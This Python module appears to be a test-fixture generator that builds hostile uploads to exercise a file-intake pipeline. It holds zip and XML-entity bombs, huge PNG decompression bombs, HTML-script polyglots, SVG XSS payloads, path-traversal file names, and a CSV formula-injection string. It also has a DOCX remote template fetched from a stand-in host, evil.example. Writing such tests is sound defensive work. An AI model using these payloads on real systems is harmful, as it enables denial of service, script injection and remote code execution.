"""Files that nobody means well with: bombs, two things at once, lies, halves, giants, programs, names that lead out.

Each is a sort of its own, with the door that it is meant for.
"""

import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from typing import Final, Literal
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from content.seed import source
from tests.content.words import report

Named = tuple[str, bytes]
Made = Callable[[random.Random], Named]

Door = Literal["files", "document", "zip", "captions", "logo"]


@dataclass(frozen=True)
class Sort:
    """A sort of hostile file. `make` gives one; `door` is where it would do most harm."""

    door: Door
    make: Made


DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9" height="9">{}</svg>'
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

SVGS = (
    "<script>alert(1)</script>",
    "<g onload='alert(1)'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
    "<image href='https://evil.example/x.png'/>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<use href='data:image/svg+xml,x#y'/>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<animate attributeName='href' to='javascript:alert(1)'/>",
    "<g>" * 20_000,
)

NAMES = (
    *(
        "../../../etc/passwd.csv",
        "..\\..\\x.csv",
        "/etc/x.csv",
        "C:\\x.csv",
        "CON.csv",
        "x.csv/../../y.csv",
        ".csv",
        "csv",
    ),
    *(
        "x" * 3_000 + ".csv",
        "a\u202evsc.exe.csv",
        "<script>alert(1)<!--.csv",
        'x"; filename="y.html.csv',
        "x.html;.csv",
    ),
    *(
        "x.csv.html",
        "x.php.csv",
        "%00.csv",
        "x\u0000.csv",
        "\ud83e\uddbe.csv",
        "a;b=c.csv",
        "nul.csv",
        "x.CSV ",
        "..csv",
    ),
)


def container(parts: dict[str, bytes | str], *, packed: int = ZIP_DEFLATED) -> bytes:
    written = BytesIO()
    with ZipFile(written, "w", packed) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return written.getvalue()


def word(body: str = "", **parts: bytes | str) -> bytes:
    document = f"<w:document {W}><w:body>{body}</w:body></w:document>"
    return container({"[Content_Types].xml": TYPES, "word/document.xml": document} | parts)


def png(width: int, height: int, rows: int | None = None) -> bytes:
    """One that says it is as large as this, with so many rows of zeros in it."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    squeezed = zlib.compress(bytes(1 + width) * min(rows if rows is not None else height, 30_000), 9)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", squeezed) + chunk(b"IEND", b"")


def moving(form: str) -> bytes:
    written = BytesIO()
    frames = [Image.new("RGB", (60, 60), (n, n, n)) for n in range(30)]
    frames[0].save(written, form, save_all=True, append_images=frames[1:], duration=50)
    return written.getvalue()


def _good() -> Iterator[Made]:
    for name in ("lascel-tijdens-proef.jpg", "keurstation.svg", "uitval-26-weken-terp.csv"):
        yield _fixed(name, source.file(name))
    yield lambda _chance: ("a.docx", report(pictures=1))
    yield lambda _chance: ("a.png", png(900, 700))
    yield _fixed("a.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF")
    yield _fixed("a.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(5_000))
    yield _fixed("a.stl", b"solid x\nfacet normal 0 0 0\nendsolid x")


def _fixed(name: str, data: bytes) -> Made:
    return lambda _chance: (name, data)


GOOD: Final = tuple(_good())

LAUGHS: Final = (
    "<!DOCTYPE a [<!ENTITY b '"
    + "x" * 1_000
    + "'>"
    + "".join(f"<!ENTITY c{n} '{('&b;' if n == 0 else f'&c{n - 1};') * 20}'>" for n in range(8))
    + "]>"
)


def zeros(chance: random.Random) -> bytes:
    """What packs to next to nothing."""
    return bytes(chance.choice((60, 150, 210)) * 1_000_000)


BOMBS: Final[tuple[tuple[str, Callable[[random.Random], bytes]], ...]] = (
    ("bom.docx", lambda chance: word(**{"word/media/x.bin": zeros(chance)})),
    ("bom.docx", lambda chance: word(**{"word/_rels/document.xml.rels": zeros(chance)})),
    ("bom.docx", lambda chance: container({"[Content_Types].xml": zeros(chance), "word/document.xml": "<x/>"})),
    (
        "bom.docx",
        lambda _chance: container({"[Content_Types].xml": TYPES, "word/document.xml": f"{LAUGHS}<w>&c7;</w>"}),
    ),
    ("bom.docx", lambda _chance: word("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 400_000)),
    ("bom.docx", lambda _chance: word("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 200_000)),
    ("bom.docx", lambda _chance: word("<w:tbl><w:tr><w:tc>" * 30_000)),
    ("bom.docx", lambda _chance: word(**{f"word/x{n}.xml": "" for n in range(10_000)})),
    ("bom.docx", lambda _chance: word(**{f"word/x{n}.xml": bytes(99_000) for n in range(1_900)})),
    ("bom.xlsx", lambda chance: container({"[Content_Types].xml": TYPES, "xl/workbook.xml": zeros(chance)})),
    ("bom.png", lambda _chance: png(60_000, 60_000, 3_000)),
    ("bom.png", lambda _chance: png(6_300, 6_300)),
    ("bom.png", lambda _chance: png(16_000, 2_500)),
    ("bom.png", lambda _chance: png(5_400, 5_400)),
    ("bom.svg", lambda _chance: (LAUGHS + DRAWING.format("<text>&c7;</text>")).encode()),
    ("bom.csv", lambda _chance: b"a,b\n" * 4_000_000),
    ("bom.webp", lambda _chance: moving("WEBP")),
    ("bom.png", lambda _chance: moving("PNG")),
    ("bom.jpg", lambda _chance: moving("GIF")),
)

PROGRAMS: Final = (
    ("macro.docx", word(**{"word/vbaProject.bin": "x"})),
    ("macro.xlsx", container({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/a.xml": "x"})),
    ("ole.docx", word(**{"word/embeddings/a.exe": b"MZ"})),
    (
        "haalt.docx",
        word(
            **{
                "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                'relationships"><Relationship Id="a" Type="http://x/attachedTemplate" '
                'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
            }
        ),
    ),
    ("oud.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)),
    ("prog.jpg", b"MZ" + bytes(5_000)),
    ("prog.pdf", b"\x7fELF" + bytes(5_000)),
    ("pagina.csv", b"<!doctype html><script>alert(1)</script>"),
    ("pagina.txt", b"<html><body onload=alert(1)>"),
    ("formule.csv", b"=cmd|'/C calc'!A0,@SUM(1),+1,-1\n"),
    ("x.html", b"<script>alert(1)</script>"),
    ("x.zip", container({"a": b"b"})),
    *((f"{n}.svg", DRAWING.format(one).encode()) for n, one in enumerate(SVGS)),
)

PAGE: Final = b"<html><script>alert(1)</script></html>"
PHOTO: Final = source.file("lascel-tijdens-proef.jpg")

TWO_AT_ONCE: Final = (
    ("twee.jpg", PHOTO + PAGE),
    ("twee.jpg", PHOTO + container({"a.html": PAGE})),
    ("twee.png", png(90, 90) + PAGE),
    ("twee.pdf", b"%PDF-1.4\n" + PAGE),
    ("twee.pdf", PAGE + b"%PDF-1.4\n"),
    ("twee.docx", PAGE + report(pictures=0)),
    ("twee.csv", b"a,b\n" + PAGE),
    ("twee.jpg", b"GIF89a/*" + PAGE + b"*/=1;"),
    ("twee.step", b"ISO-10303-21;" + PAGE + b"END-ISO-10303-21;"),
    ("twee.stl", b"solid " + PAGE + b" facet endsolid"),
    ("twee.mp4", b"\x00\x00\x00\x18ftypmp42" + PAGE),
    ("twee.svg", b"<?xml version='1.0'?>" + PAGE + DRAWING.format("").encode()),
)


def damaged(chance: random.Random) -> Named:
    """A good one with other bytes here and there."""
    name, data = chance.choice(GOOD)(chance)
    hurt = bytearray(data)
    for _ in range(chance.randint(1, 30)):
        hurt[chance.randrange(len(hurt))] = chance.randrange(256)
    return name, bytes(hurt)


def cut_short(chance: random.Random) -> Named:
    """The beginning of a good one."""
    name, data = chance.choice(GOOD)(chance)
    return name, data[: chance.randrange(len(data))]


def lying(chance: random.Random) -> Named:
    """One kind under the name of another."""
    (name, _), (_other, data) = chance.choice(GOOD)(chance), chance.choice(GOOD)(chance)
    return name, data


def named(name: str) -> Made:
    """Names that lead out, end elsewhere or mean something to somebody."""
    return lambda chance: (name, b"a,b\n1,%d\n" % chance.randrange(10**9))


LEADING_OUT: Final = ("../../../etc/x", "/etc/x", "C:\\x", "word\\..\\x", "word/../../x")


def _of(name: str) -> Door:
    return "document" if name.endswith(".docx") else "files"


def _fixed_sort(door: Door, name: str, data: bytes) -> Sort:
    return Sort(door, _fixed(name, data))


def _bomb(door: Door, name: str, data: Callable[[random.Random], bytes]) -> Sort:
    return Sort(door, lambda chance: (name, data(chance)))


def file_sorts() -> Iterator[Sort]:
    """Every sort that comes in by itself."""
    yield from (Sort("files", make) for make in (*GOOD, damaged, cut_short, lying))
    yield from (_bomb(_of(name), name, data) for name, data in BOMBS)
    yield from (_fixed_sort(_of(name), name, data) for name, data in (*PROGRAMS, *TWO_AT_ONCE))
    yield from (Sort("files", named(name)) for name in NAMES)
    yield from (_fixed_sort("document", "uit.docx", word(**{name: b"x"})) for name in LEADING_OUT)
    yield from (_bomb("logo", "logo.png", data) for name, data in BOMBS if name != "bom.docx")
    yield from (_fixed_sort("logo", "logo.png", data) for _name, data in TWO_AT_ONCE)
